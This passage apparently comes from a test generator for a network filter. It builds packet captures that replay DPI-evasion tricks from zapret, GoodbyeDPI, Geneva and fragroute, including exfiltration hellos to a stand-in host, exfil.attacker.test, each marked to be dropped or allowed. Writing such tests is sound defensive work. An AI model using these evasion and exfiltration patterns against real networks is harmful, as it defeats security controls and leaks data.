    return rtz_tls(n, O1, 55621, SOC, send, leak(n)), {"leak": [leak(n)]}


@case
def case_rtz_zapret_fakedsplit_ttl_vk(n):
    """Office: nfqws --dpi-desync=fake,split (fakedsplit) --dpi-desync-split-pos=host+1
    --dpi-desync-ttl=3: fake1 real1 fake1 fake2 real2 fake2, the fakes ex.a.org's bytes with
    a TTL that expires on the way (nothing tells them from the real ones). Must drop."""
    h = hello(n, sni=VK, alpn_extra=[leak(n)])
    d = hello(n, sni=RT_DECOY)
    send = lambda t: rtz_faked(t, h, d, rtz_pos(h, VK)["host"] + 1, ("ttl",), False)  # noqa: E731
    return rtz_tls(n, O1, 55637, SOC, send, leak(n)), {"leak": [leak(n)]}


@case
def case_rtz_zapret_tlsrec_multidisorder_vk(n):
    """Office: nfqws --dpi-desync=multidisorder --dpi-desync-split-pos=1,midsld
    --dpi-desync-split-tls=sniext+1 (tlsrec): the m.vk.com hello in two TLS records cut
    inside the server_name extension, the TCP pieces sent last first. Must drop."""
    m = hs_client_hello(n, sni=VK, sid=None)
    cut = m.find(VK.encode()) - 4
    data = record(22, m[:cut]) + record(22, m[cut:])
    mid = data.find(b"vk.com") + 1

    def send(t):
        cut_at(t, data, [1, mid], order=[2, 1, 0])
    return rtz_tls(n, O1, 55622, SOC, send, leak(n)), {"leak": [leak(n)]}


@case
def case_rtz_zapret_seqovl_split_vk(n):
    """Office: nfqws --dpi-desync=split2 --dpi-desync-split-pos=midsld
    --dpi-desync-split-seqovl=120 with the www.iana.org fake as the seqovl pattern: the first
    segment starts 120 bytes below the client's first sequence number (the server trims
    them) and holds a hello's first 120 bytes, then the m.vk.com hello up to midsld; then
    the rest; then (no ACK came) the kernel's retransmission of the first piece without the
    overlap. Must drop."""
    h = hello(n, sni=VK, alpn_extra=[leak(n)])
    fake = rtz_fake_hello(n, RTZ_IANA)
    pos = rtz_pos(h, VK)["midsld"]

    def send(t):
        base = t.cseq
        rtz_send(t, fake[:120] + h[:pos], base - 120)
        rtz_send(t, h[pos:], base + pos)
        # no ACK comes for the first piece (not forwarded: it starts below the stream),
        # so the kernel sends it again after its timeout, as the stack queued it
        rtz_send(t, h[:pos], base, gap=200000)
        t.cseq = base + len(h)
    return rtz_tls(n, O1, 55623, SOC, send, leak(n)), {"leak": [leak(n)]}


@case
def case_rtz_zapret_seqovl_disorder_vk(n):
    """Office: nfqws --dpi-desync=disorder2 --dpi-desync-split-pos=midsld
    --dpi-desync-split-seqovl=3: the second piece goes first, starting 3 bytes early with
    ex.a.org's bytes there ("ex." over "m.v"); then the first piece. Linux queues the
    second out of order, then takes the first in order and trims the overlap off the
    queued one (tcp_ofo_queue): it reads m.vk.com. Must drop."""
    h = hello(n, sni=VK, alpn_extra=[leak(n)])
    d = hello(n, sni=RT_DECOY)
    pos = rtz_pos(h, VK)["midsld"]

    def send(t):
        base = t.cseq
        rtz_send(t, d[pos - 3:pos] + h[pos:], base + pos - 3)
        rtz_send(t, h[:pos], base)
        t.cseq = base + len(h)
    return rtz_tls(n, O1, 55638, SOC, send, leak(n)), {"leak": [leak(n)]}


@case
def case_rtz_zapret_seqovl_disorder_evil(n):
    """Strict zone: the same seqovl disorder, e2m.customs.example's bytes in the overlap of
    the exfil hello's second piece ("e2m" over "exf"... at midsld). Must drop."""
    h = hello(n, sni=EVIL, alpn_extra=[leak(n)])
    d = hello(n, sni=E2M_NAME)
    pos = rtz_pos(h, EVIL)["midsld"]

    def send(t):
        base = t.cseq
        rtz_send(t, d[pos - 8:pos] + h[pos:], base + pos - 8)
        rtz_send(t, h[:pos], base)
        t.cseq = base + len(h)
    return rtz_tls(n, S1, 55639, E2M, send, leak(n)), {"leak": [leak(n)]}


def rtz_udp(cap, src, sport, dst, dport, payload, gap=2000, ttl=None):
    ip = (IPv6(src=src, dst=dst, hlim=ttl) if ":" in src else IP(src=src, dst=dst, ttl=ttl)) if ttl else \
        (IPv6 if ":" in src else IP)(src=src, dst=dst)
    cap.emit(l2(src, dst) / ip / UDP(sport=sport, dport=dport) / Raw(payload), gap)


@case
def case_rtz_zapret_fake_quic_fb(n):
    """Office, QUIC: nfqws --dpi-desync=fake --dpi-desync-fake-quic=<www.google.com Initial>
    --dpi-desync-ttl=3 --dpi-desync-repeats=2 --dpi-desync-udplen-increment=2: two fake
    Initials (another DCID, www.google.com) that expire on the way, then the real Initial
    for www.facebook.com with 2 zero bytes appended to the datagram. Must drop."""
    cap = Capture()
    dcid, scid = _q_ids(n)
    fk = quic_initial(prand(n + "fdcid", 8), prand(n + "fscid", 8), 0,
                      quic_crypto_frame(0, quic_hs_hello(n + "f", "www.google.com")))
    for _ in range(2):
        rtz_udp(cap, O1, 55624, SOC, 443, fk, ttl=3)
    real = quic_initial(dcid, scid, 0, quic_crypto_frame(0, quic_hs_hello(n, FB)))
    quic_flow(cap, n, 55624, [real + b"\x00\x00"])
    return cap, {"leak": [leak(n)]}


@case
def case_rtz_zapret_ipfrag2_hbh_v6_vk(n):
    """Office, IPv6: nfqws --dpi-desync=fake,ipfrag2 --dpi-desync-fooling=hopbyhop
    --dpi-desync-ipfrag-pos-tcp=24: the www.iana.org fake with a Hop-by-Hop header, then the
    m.vk.com hello in two fragments (the first: TCP header and 4 bytes), each with a
    Hop-by-Hop header before the Fragment header, the second fragment first. Must drop."""
    h = hello(n, sni=VK, alpn_extra=[leak(n)])
    fake = rtz_fake_hello(n, RTZ_IANA)

    def send(t):
        base = t.cseq
        rtz_send(t, fake, base, v6ext=(IPv6ExtHdrHopByHop(),))
        l4 = bytes(IPv6(bytes(IPv6(src=O6, dst=SOC6) / TCP(sport=55625, dport=443, flags="PA", seq=base,
                                                          ack=t.sseq, window=64240) / Raw(h))).payload)
        frs = [(0, l4[:24], 1), (24, l4[24:], 0)]
        for off, b, m in reversed(frs):
            f = (IPv6(src=O6, dst=SOC6) / IPv6ExtHdrHopByHop()
                 / IPv6ExtHdrFragment(nh=6, offset=off // 8, m=m, id=0x55625) / Raw(b))
            t.cap.emit(l2(O6, SOC6) / f, 300)
        t.cseq = base + len(h)
    return rtz_tls(n, O6, 55625, SOC6, send, leak(n)), {"leak": [leak(n)]}


def rtz_http(n, cport, send_req, marker, dport=80):
    """Office HTTP: send_req(t) sends the request; the answer holds the marker; then a
    second request on the connection holds it too (whatever the first's pieces' order)."""
    cap = Capture()
    t = ETcp(cap, O1, cport, SOC, dport, isn=cport, rtt_us=20000)
    t.handshake()
    send_req(t)
    t.ack(False)
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 40\r\n\r\n" + marker + b"x" * 20)
    t.data(True, b"GET /next HTTP/1.1\r\nHost: www.example.org\r\nX-Mark: " + marker + b"\r\n\r\n")
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 40\r\n\r\n" + marker + b"y" * 20)
    t.close()
    return cap


@case
def case_rtz_zapret_http_hostmods_vk(n):
    """Office HTTP: nfqws --dpi-desync=fake,split2 --dpi-desync-split-pos=host+1
    --dpi-desync-fooling=md5sig --hostcase --hostnospace --domcase --hosttab: a fake GET
    for www.iana.org with a TCP-MD5 option, then "host:m.Vk.CoM<TAB>" cut inside the name.
    Must drop."""
    req = (b"GET / HTTP/1.1\r\nhost:m.Vk.CoM\t\r\nUser-Agent: Mozilla/5.0\r\nX-Mark: " + leak(n)
           + b"\r\nAccept: */*\r\n\r\n")
    fake = b"GET / HTTP/1.1\r\nHost: www.iana.org\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n"

    def send(t):
        rtz_send(t, fake, t.cseq, ("md5sig",))
        cut_at(t, req, [req.find(b"m.Vk") + 1])
    return rtz_http(n, 55626, send, leak(n)), {"leak": [leak(n)]}


@case
def case_rtz_zapret_http_methodeol_vk(n):
    """Office HTTP: nfqws --methodeol --methodspace --unixeol --hostdot
    --dpi-desync=disorder2 --dpi-desync-split-pos=2: "\\nGET  / HTTP/1.1\\nHost: m.vk.com.\\n"
    with LF line ends only, from byte 2 first, then bytes 0-1. Must drop."""
    req = (b"\nGET  / HTTP/1.1\nHost: m.vk.com.\nUser-Agent: Mozilla/5.0\nAccept: */*\n\n")
    return rtz_http(n, 55627, lambda t: cut_at(t, req, [2], order=[1, 0]), leak(n)), {"leak": [leak(n)]}


def rtz_gdpi_req(host):
    """GoodbyeDPI -r -s -m -a: 'hoSt:' (-r), no space after it (-s), the value in mixed
    case (-m), two spaces between method and URI (-a)."""
    mixed = bytes(c ^ 0x20 if (i % 2 and 0x61 <= c <= 0x7a) else c for i, c in enumerate(host))
    return (b"GET  / HTTP/1.1\r\nhoSt:" + mixed + b"\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n")


@case
def case_rtz_gdpi_http_rsm_revfrag_fb(n):
    """Office HTTP: GoodbyeDPI -f 2 --native-frag --reverse-frag -r -s -m -a: the request
    for wWw.FaCeBoOk.CoM cut after 2 bytes, the second segment first. Must drop."""
    req = rtz_gdpi_req(FB.encode())
    return rtz_http(n, 55628, lambda t: cut_at(t, req, [2], order=[1, 0]), leak(n)), {"leak": [leak(n)]}


@case
def case_rtz_gdpi_http_rsm_revfrag_ok(n):
    """Must allow, office HTTP: the same GoodbyeDPI request shape for www.example.org."""
    req = rtz_gdpi_req(b"www.example.org")
    return rtz_http(n, 55629, lambda t: cut_at(t, req, [2], order=[1, 0]), passm(n)), {"pass": [passm(n)]}


@case
def case_rtz_gdpi_wrongseq_e2_vk(n):
    """Office: GoodbyeDPI --wrong-seq (a fake www.iana.org hello with SEQ and ACK out of the
    window) -e 2 --native-frag: the m.vk.com hello cut after 2 bytes. Must drop."""
    h = hello(n, sni=VK, alpn_extra=[leak(n)])
    fake = rtz_fake_hello(n, RTZ_IANA)

    def send(t):
        rtz_send(t, fake, t.cseq, ("badseq",))
        cut_at(t, h, [2])
    return rtz_tls(n, O1, 55630, SOC, send, leak(n)), {"leak": [leak(n)]}


# --- Geneva, office

@case
def case_rtz_geneva_rst_badsum_vk(n):
    """Office: Geneva [TCP:flags:A]-duplicate(,tamper{TCP:flags:replace:R}(tamper{TCP:chksum:
    corrupt},))-|: the handshake's ACK, then a RST with a wrong checksum (a DPI that tears
    its state down on it), then the m.vk.com hello. Must drop."""
    def send(t):
        t.raw(True, "R", tcpkw={"chksum": 0xBAD1})
        t.send(True, hello(n, sni=VK, alpn_extra=[leak(n)]))
    return rtz_tls(n, O1, 55631, SOC, send, leak(n)), {"leak": [leak(n)]}


@case
def case_rtz_geneva_dup_fin_vk(n):
    """Office: Geneva [TCP:flags:PA]-duplicate(tamper{TCP:flags:replace:F},)-|: the m.vk.com
    hello first as a FIN-only copy (no ACK: a synchronized receiver discards it), then as
    itself. Must drop."""
    h = hello(n, sni=VK)

    def send(t):
        rtz_send(t, h, t.cseq, flags="F")
        t.send(True, h)
    return rtz_tls(n, O1, 55632, SOC, send, leak(n)), {"leak": [leak(n)]}


# --- fragroute, office

@case
def case_rtz_fragroute_tcpseg_random_vk(n):
    """Office: fragroute `tcp_seg 8` then `order random`: the m.vk.com hello in 8-byte
    segments sent in a shuffled order (fixed). Must drop."""
    h = hello(n, sni=VK, alpn_extra=[leak(n)])
    cuts = list(range(8, len(h), 8))
    order = list(range(len(cuts) + 1))
    r = prand(n + "order", len(order))
    order.sort(key=lambda i: r[i])

    def send(t):
        cut_at(t, h, cuts, order=order)
    return rtz_tls(n, O1, 55633, SOC, send, leak(n)), {"leak": [leak(n)]}


@case
def case_rtz_fragroute_ipfrag_old_vk(n):
    """Office: fragroute `ip_frag 16 old`: the m.vk.com hello's datagram in 16-byte
    fragments, each after the first followed by an overlapping junk fragment of the same
    range (a receiver that favours old data reads m.vk.com). Must drop."""
    cap = Capture()
    h = hello(n, sni=VK, alpn_extra=[leak(n)])

    def send(t):
        base = t.cseq
        real = bytes(IP(bytes(IP(src=O1, dst=SOC) / TCP(sport=55634, dport=443, flags="PA", seq=base,
                                                       ack=t.sseq, window=64240) / Raw(h))).payload)
        junk = prand(n + "junk", len(real))
        for off in range(0, len(real), 16):
            more = off + 16 < len(real)
            for b in ((real, junk) if off else (real,)):
                f = IP(src=O1, dst=SOC, id=0x5634, proto=6, flags="MF" if more else 0,
                       frag=off // 8) / Raw(b[off:off + 16])
                t.cap.emit(l2(O1, SOC) / f, 300)
        t.cseq = base + len(h)
    tls_flow(cap, O1, 55634, SOC, 55634, n, send, leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_rtz_fragroute_ipchaff_dup_ok(n):
    """Must allow, office: fragroute `tcp_seg 24` then `ip_chaff dup`: a www.example.org
    hello in 24-byte segments, each sent twice byte for byte (a duplicating path)."""
    h = hello(n, sni="www.example.org", alpn_extra=[passm(n)])

    def send(t):
        base = t.cseq
        for off in range(0, len(h), 24):
            for _ in range(2):
                rtz_send(t, h[off:off + 24], base + off, gap=200)
        t.cseq = base + len(h)
    return rtz_tls(n, O1, 55635, SOC, send, passm(n)), {"pass": [passm(n)]}


@case
def case_rtz_zapret_http_cutoff2_vk(n):
    """Office HTTP keep-alive: a first GET for www.example.org answered, then (nfqws
    --dpi-desync-cutoff past the first request, desync on the next) a fake GET for
    www.iana.org with a wrong checksum and the GET for m.vk.com with --hostcase, cut at
    host+1. Must drop."""
    cap = Capture()
    t = ETcp(cap, O1, 55636, SOC, 80, isn=55636, rtt_us=20000)
    t.handshake()
    t.data(True, b"GET / HTTP/1.1\r\nHost: www.example.org\r\nAccept: */*\r\n\r\n")
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 20\r\n\r\n" + b"z" * 20)
    req = b"GET /feed HTTP/1.1\r\nhost: m.vk.com\r\nX-Mark: " + leak(n) + b"\r\nAccept: */*\r\n\r\n"
    fake = b"GET / HTTP/1.1\r\nHost: www.iana.org\r\nAccept: */*\r\n\r\n"
    rtz_send(t, fake, t.cseq, ("badsum",))
    cut_at(t, req, [req.find(b"m.vk") + 1])
    t.ack(False)
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 40\r\n\r\n" + leak(n) + b"x" * 20)
    t.close()
    return cap, {"leak": [leak(n)]}


# --- more: IP-level tampering (Geneva), SYN copies, QUIC to e2m, hostfakesplit

def rtz_mf_decoy(t, payload, ident):
    """Geneva duplicate(tamper{IP:flags:replace:MF},): the copy claims more fragments
    follow (offset 0): a receiver holds it until its reassembly timer drops it."""
    seg = TCP(sport=t.cport, dport=t.sport, flags="PA", seq=t.cseq, ack=t.sseq, window=64240) / Raw(payload)
    l4 = bytes(IP(bytes(IP(src=t.c, dst=t.s) / seg)).payload)
    t.cap.emit(l2(t.c, t.s) / IP(src=t.c, dst=t.s, id=ident, proto=6, flags="MF", frag=0) / Raw(l4), t.rtt // 2)


@case
def case_rtz_geneva_dup_mf_evil(n):
    """Strict zone: Geneva [TCP:flags:PA]-duplicate(tamper{IP:flags:replace:MF},)-|, the
    tampered copy's load the e2m hello: a lone first fragment that never completes, then
    the exfil hello as a whole packet. Must drop."""
    h = hello(n, sni=EVIL, alpn_extra=[leak(n)])

    def send(t):
        rtz_mf_decoy(t, hello(n), 0x5640)
        t.send(True, h)
    return rtz_tls(n, S1, 55640, E2M, send, leak(n)), {"leak": [leak(n)]}


@case
def case_rtz_geneva_dup_mf_vk(n):
    """Office: the same MF-tampered copy holding a www.iana.org hello, then the m.vk.com
    hello. Must drop."""
    h = hello(n, sni=VK, alpn_extra=[leak(n)])

    def send(t):
        rtz_mf_decoy(t, rtz_fake_hello(n, RTZ_IANA, size=len(h)), 0x5641)
        t.send(True, h)
    return rtz_tls(n, O1, 55641, SOC, send, leak(n)), {"leak": [leak(n)]}


@case
def case_rtz_geneva_dup_syn_vk(n):
    """Office: Geneva duplicate(tamper{TCP:flags:replace:S},) with the copy's load replaced:
    a SYN at the data's sequence number holding a www.iana.org hello (a synchronized
    receiver answers a challenge ACK and drops it, RFC 5961 4), then the m.vk.com hello.
    Must drop."""
    h = hello(n, sni=VK, alpn_extra=[leak(n)])

    def send(t):
        rtz_send(t, rtz_fake_hello(n, RTZ_IANA, size=len(h)), t.cseq, flags="S")
        t.raw(False, "A")
        t.send(True, h)
    return rtz_tls(n, O1, 55642, SOC, send, leak(n)), {"leak": [leak(n)]}


@case
def case_rtz_geneva_rst_oow_vk(n):
    """Office: Geneva duplicate(,tamper{TCP:flags:replace:R}(tamper{TCP:seq:corrupt},)) on
    the handshake's ACK: a RST with a sequence number far outside the window (RFC 5961:
    it resets nothing), then the m.vk.com hello. Must drop."""
    def send(t):
        t.raw(True, "R", seq=(t.cseq + 0x40000000) & 0xFFFFFFFF)
        t.send(True, hello(n, sni=VK, alpn_extra=[leak(n)]))
    return rtz_tls(n, O1, 55647, SOC, send, leak(n)), {"leak": [leak(n)]}


@case
def case_rtz_zapret_fake_quic_e2m(n):
    """Strict zone, QUIC to e2m's address and port 443: nfqws fake QUIC Initial naming
    e2m.customs.example (TTL 3), then the real Initial for exfil.attacker.test. e2m declares
    TLS (over TCP) only. Nothing may pass."""
    cap = Capture()
    dcid, scid = _q_ids(n)
    fk = quic_initial(prand(n + "fdcid", 8), prand(n + "fscid", 8), 0,
                      quic_crypto_frame(0, quic_hs_hello(n + "f", E2M_NAME)))
    rtz_udp(cap, S1, 55643, E2M, 443, fk, ttl=3)
    real = quic_initial(dcid, scid, 0, quic_crypto_frame(0, quic_hs_hello(n, EVIL)))
    quic_flow(cap, n, 55643, [real], dst=E2M, src=S1)
    return cap, {"leak": [leak(n)]}


@case
def case_rtz_zapret_destopt_v6_evil(n):
    """Strict zone, IPv6: nfqws --dpi-desync=fake,disorder2 --dpi-desync-fooling=destopt
    (a Destination Options header; here with an unknown option whose type says discard,
    RFC 8200 4.2), the fake the e2m hello, then the exfil hello from sniext+1 first."""
    h = hello(n, sni=EVIL, alpn_extra=[leak(n)])
    opt = IPv6ExtHdrDestOpt(options=[HBHOptUnknown(otype=0x9E, optdata=b"\x00" * 4)])

    def send(t):
        rtz_send(t, hello(n), t.cseq, v6ext=(opt,))
        cut_at(t, h, [rtz_pos(h, EVIL)["sniext"] + 1], order=[1, 0])
    return rtz_tls(n, S6, 55644, E2M6, send, leak(n)), {"leak": [leak(n)]}


@case
def case_rtz_zapret_hostfakesplit_vk(n):
    """Office: nfqws --dpi-desync=hostfakesplit --dpi-desync-fooling=ttl: the hello before
    the name, a fake of the name's segment (a random name of the same length, TTL 3), the
    real name's segment, the fake again, then the rest. Must drop."""
    h = hello(n, sni=VK, alpn_extra=[leak(n)])
    a = h.find(VK.encode())
    b = a + len(VK)
    fakehost = b"x7.qz.io"
    assert len(fakehost) == len(VK)

    def send(t):
        base = t.cseq
        rtz_send(t, h[:a], base)
        rtz_send(t, fakehost, base + a, ("ttl",))
        rtz_send(t, h[a:b], base + a)
        rtz_send(t, fakehost, base + a, ("ttl",))
        rtz_send(t, h[b:], base + b)
        t.cseq = base + len(h)
    return rtz_tls(n, O1, 55645, SOC, send, leak(n)), {"leak": [leak(n)]}


@case
def case_rtz_zapret_ipfrag2_rev_v4_e2m_ok(n):
    """Must allow: a genuine e2m hello's datagram in two IPv4 fragments cut at TCP offset 24
    (nfqws ipfrag2's place), the second fragment first (paths reorder fragments)."""
    h = hello(n, alpn_extra=[passm(n)])

    def send(t):
        base = t.cseq
        l4 = bytes(IP(bytes(IP(src=S1, dst=E2M) / TCP(sport=55646, dport=443, flags="PA", seq=base,
                                                       ack=t.sseq, window=64240) / Raw(h))).payload)
        for off, b, mf in ((24, l4[24:], 0), (0, l4[:24], 1)):
            t.cap.emit(l2(S1, E2M) / IP(src=S1, dst=E2M, id=0x5646, proto=6, flags="MF" if mf else 0,
                                        frag=off // 8) / Raw(b), 300)
        t.cseq = base + len(h)
    return rtz_tls(n, S1, 55646, E2M, send, passm(n)), {"pass": [passm(n)]}


# ------------------------------------------------ the twenty-third session: DNS queries' records


@case
def case_dns_tkey_gss_ok(n):
    """Must-allow: a Windows domain member's secure dynamic update over TCP (GSS-TSIG,
    RFC 3645), as it runs before each registration: a TKEY query (question type TKEY,
    class ANY) whose additional section holds the TKEY record with a 1400-byte GSS
    token (a Kerberos AP-REQ), the server's TKEY answer with its own token, then the
    UPDATE (opcode 5) signed with a gss-tsig TSIG. A standard query is held to OPT,
    TSIG and SIG(0) records of 128 bytes at most, except a TKEY record in a TKEY
    query (dns.c, dns_stdq_type_ok)."""
    cap = Capture()
    t = ETcp(cap, S1, 53230, RESOLVER, 53, isn=53230, rtt_us=2000)
    t.handshake()
    key = "1234-ms-7.ws-10.e2m.customs.example"
    alg = b"\x08gss-tsig\x00"

    def tkey(token):
        return alg + struct.pack("!IIHHH", 1767225600, 1767312000, 3, 0, len(token)) + token + b"\x00\x00"

    qname = b"".join(bytes([len(l)]) + l.encode() for l in key.split(".")) + b"\x00"
    q = (struct.pack("!HHHHHH", 0x7a01, 0x0000, 1, 0, 0, 1) + qname + struct.pack("!HH", 249, 255)
         + rt8b_rr(key, 249, 255, 0, tkey(prand(n + "tok", 1400))))
    t.data(True, struct.pack("!H", len(q)) + q)
    a = (struct.pack("!HHHHHH", 0x7a01, 0x8400, 1, 1, 0, 0) + qname + struct.pack("!HH", 249, 255)
         + rt8b_rr(key, 249, 255, 0, tkey(prand(n + "srvtok", 180))))
    t.data(False, struct.pack("!H", len(a)) + a)
    zone = "customs.example"
    host = "ws-10.e2m.customs.example"
    tsig = rt8b_rr(key, 250, 255, 0, alg + struct.pack("!HIH", 0, 1767225601, 300) + struct.pack("!H", 28)
                   + prand(n + "mic", 28) + struct.pack("!HHH", 0x7a02, 0, 0))
    upd = bytes(DNS(id=0x7a02, opcode=5, qd=DNSQR(qname=zone, qtype="SOA"),
                    ns=DNSRR(rrname=host, type="A", ttl=1200, rdata=S1)))
    upd = upd[:10] + struct.pack("!H", 1) + upd[12:] + tsig
    t.data(True, struct.pack("!H", len(upd)) + upd)
    ua = bytes(DNS(id=0x7a02, qr=1, opcode=5, qd=DNSQR(qname=zone, qtype="SOA")))
    t.data(False, struct.pack("!H", len(ua)) + ua)
    t.close()
    return cap, {"pass": [q[:200], upd]}


def rt25_hello_exts(seed, exts, sid=None, ciphers=CIPHERS):
    eb = b"".join(exts)
    sid = prand(seed + "s", 32) if sid is None else sid
    body = (b"\x03\x03" + prand(seed + "r", 32) + bytes([len(sid)]) + sid
            + struct.pack("!H", len(ciphers)) + ciphers + b"\x01\x00" + struct.pack("!H", len(eb)) + eb)
    return record(22, b"\x01" + struct.pack("!I", len(body))[1:] + body)


def rt25_sni(name=E2M_NAME):
    return ext(0, struct.pack("!H", len(name) + 3) + b"\x00" + struct.pack("!H", len(name)) + name.encode())


@case
def case_java_hello_ok(n):
    """A Java 17/21 (JSSE) ClientHello: status_request_v2, signature_algorithms_cert,
    extended_master_secret, session_ticket, psk modes, key shares x25519 and secp256r1
    (a 65-byte point), supported_versions 1.3/1.2, renegotiation_info."""
    sigs = struct.pack("!14H", 0x0403, 0x0503, 0x0603, 0x0804, 0x0805, 0x0806, 0x0809, 0x080A,
                       0x080B, 0x0401, 0x0501, 0x0601, 0x0402, 0x0201)
    groups = struct.pack("!7H", 29, 30, 23, 24, 25, 0x0100, 0x0101)
    shares = struct.pack("!HH", 29, 32) + prand(n + "x", 32) + struct.pack("!HH", 23, 65) + b"\x04" + prand(n + "p", 64)
    exts = [rt25_sni(), ext(5, b"\x01\x00\x00\x00\x00"), ext(10, struct.pack("!H", len(groups)) + groups),
            ext(11, b"\x01\x00"), ext(13, struct.pack("!H", len(sigs)) + sigs),
            ext(50, struct.pack("!H", len(sigs)) + sigs), ext(17, b"\x00\x0e\x02\x00\x04\x00\x00\x00\x00\x01\x00\x04\x00\x00\x00\x00"),
            ext(23, b""), ext(35, b""), ext(43, b"\x04\x03\x04\x03\x03"), ext(45, b"\x01\x01"),
            ext(51, struct.pack("!H", len(shares)) + shares), ext(0xFF01, b"\x00"),
            ext(16, b"\x00\x0c\x02h2\x08http/1.1")]
    ciphers = struct.pack("!12H", 0x1302, 0x1301, 0x1303, 0xC02C, 0xC02B, 0xCCA9, 0xC030, 0xCCA8,
                          0xC02F, 0x009F, 0x009E, 0x00FF)
    cap = Capture()
    tls_flow(cap, S1, 52062, E2M, 52062, n, send_whole(rt25_hello_exts(n, exts, ciphers=ciphers)), passm(n))
    return cap, {"pass": [passm(n)]}


@case
def case_nosid_hello_ok(n):
    """A TLS 1.3 ClientHello with an empty legacy_session_id (no middlebox compatibility
    mode: mbedTLS, wolfSSL, embedded and IoT clients, OpenSSL with
    SSL_OP_ENABLE_MIDDLEBOX_COMPAT cleared), SNI, key share, padding to 512 bytes."""
    exts = [rt25_sni()] + std_exts(n) + [alpn_ext()]
    size = len(b"".join(exts)) + 2 + 4 + 2 + 32 + 1 + 2 + len(CIPHERS) + 2 + 5
    pad = ext(21, b"\x00" * max(0, 512 - size - 4))
    cap = Capture()
    tls_flow(cap, S1, 52063, E2M, 52063, n, send_whole(rt25_hello_exts(n, exts + [pad], sid=b"")), passm(n))
    return cap, {"pass": [passm(n)]}


@case
def case_dns_many_ok(n):
    """The e2m name resolves to 20 addresses (a cloud load balancer's pool, a
    round-robin set); the client connects to the last one in the answer (RFC 6724 and
    glibc's sort may pick any)."""
    cap = Capture()
    addrs = ["198.51.100.%d" % (210 + i) for i in range(20)]
    an = DNSRR(rrname=E2M_NAME, type="A", ttl=300, rdata=addrs[0])
    for a in addrs[1:]:
        an = an / DNSRR(rrname=E2M_NAME, type="A", ttl=300, rdata=a)
    ans = bytes(DNS(id=0x5164, qr=1, rd=1, ra=1, qd=DNSQR(qname=E2M_NAME, qtype="A"), an=an))
    dns_learn_flow(cap, 52064, 0x5164, [ans])
    cap.idle(0.01)
    tls_flow(cap, S1, 52065, addrs[-1], 52065, n, send_whole(hello(n)), passm(n))
    return cap, {"pass": [passm(n), ans]}


# --- review of round 22's fixes

@case
def case_hrr_pipe_straddle(n):
    """Review of round 22: first hello of 16382 bytes, so the CCS record header straddles the slot end."""
    cap = Capture()
    t = ETcp(cap, S1, 51023, FRONT, 443, isn=51023, rtt_us=20000)
    t.handshake()
    ch1 = hello_exact(n, FRONT_NAME, 16382)
    mark = leak(n)
    sid = ch1[5 + 4 + 2 + 32 + 1:5 + 4 + 2 + 32 + 1 + 32]
    pad = ext(21, mark + b"\x00" * 40)
    tail = CCS + hello(n, sni=EVIL, sid=sid, extra=[pad])
    allb = ch1 + tail
    for i in range(0, len(allb), 1400):
        t.send(True, allb[i:i + 1400], gap=200)
    t.ack(False)
    t.data(False, hrr_flight(n))
    t.data(False, server_hello_flight(n))
    t.data(True, tls_appdata(n + "fin", 53))
    t.data(True, marked_record(mark, n + "req"))
    t.data(False, tls_appdata(n + "resp", 400))
    t.close()
    return cap, {"leak": [mark]}


@case
def case_stun_dht(n):
    """Review of round 22: STUN binding requests (named by nDPI, allowed by the office default), then
    DHT queries on the same socket."""
    import struct as _st
    cap = Capture()
    for i in range(3):
        tid = prand(n + "tid%d" % i, 12)
        attr = _st.pack("!HH", 0x0006, 4) + b"ab:c"   # USERNAME
        msg = _st.pack("!HHI", 0x0001, len(attr), 0x2112A442) + tid + attr
        udp(cap, O1, 44190, SOC, 3478, msg, gap=300)
        udp(cap, SOC, 3478, O1, 44190, _st.pack("!HHI", 0x0101, 12, 0x2112A442) + tid
            + _st.pack("!HHBBH", 0x0020, 8, 0, 1, 0x1234) + b"\x01\x02\x03\x04", gap=300)
    for i in range(3):
        udp(cap, O1, 44190, SOC, 3478, rt_dht_query(n + str(i), leak(n)))
    return cap, {"leak": [leak(n)]}


@case
def case_dns_dht(n):
    """Review of round 22: a DNS query and answer (named by nDPI, allowed by the office default), then
    DHT queries on the same socket to port 53."""
    import struct as _st
    cap = Capture()
    q = _st.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + b"\x07example\x03org\x00" + _st.pack("!HH", 1, 1)
    a = _st.pack("!HHHHHH", 0x1234, 0x8180, 1, 1, 0, 0) + b"\x07example\x03org\x00" + _st.pack("!HH", 1, 1) \
        + b"\xc0\x0c" + _st.pack("!HHIH", 1, 1, 60, 4) + b"\x5d\xb8\xd8\x22"
    udp(cap, O1, 44191, SOC, 53, q, gap=300)
    udp(cap, SOC, 53, O1, 44191, a, gap=300)
    for i in range(3):
        udp(cap, O1, 44191, SOC, 53, rt_dht_query(n + str(i), leak(n)))
    return cap, {"leak": [leak(n)]}


@case
def case_blind_rst_ok(n):
    """Review of round 22: office TLS session allowed; an off-path RST (seq far outside the window) from
    'the server', which the client answers with a challenge ACK; the session goes on."""
    cap = Capture()
    t = ETcp(cap, O1, 44192, SOC, 443, isn=44192, rtt_us=20000)
    t.handshake()
    t.data(True, hello(n, sni="www.example.org"))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, tls_appdata(n + "req", 200))
    t.data(False, tls_appdata(n + "resp", 400))
    t.raw(False, "R", seq=(t.sseq + 0x40000000) & 0xffffffff)
    t.raw(True, "A")
    t.data(True, marked_record(passm(n), n + "req2", 200))
    t.data(False, marked_record(passm(n) + b"dn", n + "resp2", 400))
    t.close()
    return cap, {"pass": [passm(n), passm(n) + b"dn"]}


# ------------------------------------------------------------------- main

def write_case(outdir, name):
    cap, markers = (CASES.get(name) or OPEN[name])(name)
    d = os.path.join(outdir, name)
    cap.write(os.path.join(d, "in.pcap"))
    # more arguments for its replays (run.sh): a side the addresses alone
    # do not tell (a gateway's ARP from an address of the zone)
    args = markers.pop("replay_args", None)
    if args:
        with open(os.path.join(d, "args"), "w") as f:
            f.write("".join(a + "\n" for a in args))
    with open(os.path.join(d, "markers.json"), "w") as f:
        json.dump({k: [m.hex() for m in v] for k, v in markers.items()}, f, indent=1, sort_keys=True)
        f.write("\n")


